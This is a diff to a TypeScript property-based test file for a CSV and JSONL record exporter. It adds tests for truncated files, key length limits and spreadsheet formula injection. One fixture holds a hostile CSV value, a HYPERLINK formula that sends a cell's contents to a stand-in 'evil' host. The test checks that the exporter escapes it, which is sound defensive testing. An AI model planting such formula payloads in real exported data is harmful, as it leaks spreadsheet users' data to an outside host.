@@ -17,7 +17,8 @@ function linesOf(text: string): Uint8Array[] {
 
 function read(text: string): ExportedRecord[] {
   const lines = new RecordLines('orders.jsonl');
-  return linesOf(text).flatMap((line) => lines.read(line) ?? []);
+  const all = linesOf(text);
+  return all.flatMap((line, at) => lines.read(line, at < all.length - 1) ?? []);
 }
 
 const written = (format: ExportFormat, records: readonly ExportedRecord[]): string =>
@@ -26,7 +27,23 @@ const written = (format: ExportFormat, records: readonly ExportedRecord[]): stri
 /** What breaks lines, fields, texts and spreadsheets. */
 const nasty = fc.constantFrom(
   ...['"', '""', ',', ';', '\n', '\r', '\r\n', '\0', '\t', ' ', '\\', '\ufeff', '\u2028', '\x7f'],
-  ...['=1+1', '+1', '-1', '@SUM(A1)', '\uff1d1', '\ud800', '\udc00', '😀', '{', '}', "'", 'data'],
+  ...[
+    ';=1',
+    '; @A1',
+    ';"+1"',
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\uff1d1',
+    '\ud800',
+    '\udc00',
+    '😀',
+    '{',
+    '}',
+    "'",
+    'data',
+  ],
 );
 const text = fc
   .array(fc.oneof(nasty, fc.string({ unit: 'binary', maxLength: 8 })), { maxLength: 12 })
@@ -83,10 +100,38 @@ describe.each(formats)('%s', (format) => {
     }
   });
 
-  test('a byte order mark, empty lines and other columns do no harm', () => {
+  test('empty lines and other columns do no harm', () => {
     const one = { shardId: 's', sequenceNumber: '1', arrivedMs: 5, partitionKey: 'k' };
     const records = [{ ...one, data: utf8.encode('a') }];
-    expect(read(`\ufeff${written(format, records)}\r\n\n`)).toEqual(records);
+    expect(read(`${written(format, records)}\r\n\n`)).toEqual(records);
+  });
+
+  test('a key of 256 characters comes back, and one more is too long', () => {
+    const of = (partitionKey: string) =>
+      written(format, [
+        { shardId: 's', sequenceNumber: '1', arrivedMs: 5, partitionKey, data: utf8.encode('x') },
+      ]);
+    const key = '😀'.repeat(256);
+    expect(read(of(key))).toMatchObject([{ partitionKey: key }]);
+    expect(() => read(of(`${key}x`))).toThrow('up to 256 characters');
+  });
+
+  test('a file that is cut anywhere has its first records as they were, or is refused', () => {
+    fc.assert(
+      fc.property(fc.array(record, { minLength: 1, maxLength: 3 }), fc.nat(), (records, place) => {
+        const whole = written(format, records);
+        const file = whole.slice(headOf(format).length);
+        const end = headOf(format).length + (place % file.length);
+        let found: ExportedRecord[];
+        try {
+          found = read(whole.slice(0, end));
+        } catch {
+          return;
+        }
+        expect(found).toEqual(records.slice(0, found.length));
+      }),
+      { numRuns: 2000 },
+    );
   });
 });
 
@@ -120,6 +165,36 @@ test('no key and no data of a CSV begins as a formula does', () => {
     }),
     { numRuns: 1000 },
   );
+});
+
+test('no key and no data of a CSV becomes a formula where a semicolon takes lines apart', () => {
+  fc.assert(
+    fc.property(record, (one) => {
+      const { partitionKey, data } = one;
+      const plain = { shardId: 's', sequenceNumber: '1', arrivedMs: 0 };
+      const line = written('csv', [{ ...plain, partitionKey, data }]).split('\r\n')[1]!;
+      for (const cell of line.split(/[;\t]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
+    }),
+    { numRuns: 2000 },
+  );
+  const data = utf8.encode('x;=HYPERLINK("http://evil/?"&A1);y');
+  const hostile = { shardId: 's', sequenceNumber: '1', arrivedMs: 0, partitionKey: 'a;b', data };
+  const file = written('csv', [hostile]);
+  expect(file).toContain(',a;b,');
+  expect(file).toContain('\\u003b=HYPERLINK');
+  expect(read(file)).toEqual([hostile]);
+});
+
+test('the last line of a CSV needs an end only where something of it could be missing', () => {
+  const base = { shardId: 's', sequenceNumber: '1', arrivedMs: 0, partitionKey: 'k' };
+  const text = written('csv', [{ ...base, data: utf8.encode('a,b') }]);
+  expect(read(text.trimEnd())).toHaveLength(1);
+  const bytes = written('csv', [{ ...base, data: Uint8Array.of(0xff) }]);
+  expect(() => read(bytes.trimEnd())).toThrow(
+    'Line 2 of orders.jsonl is no record: no line break follows, so it may have been cut off; if the file is whole, add a line break at its end.',
+  );
+  const others = bytes.replace('\r\n', ',more\r\n').replace(/\r\n$/, ',x');
+  expect(read(others)).toHaveLength(1);
 });
 
 describe('what is no record', () => {
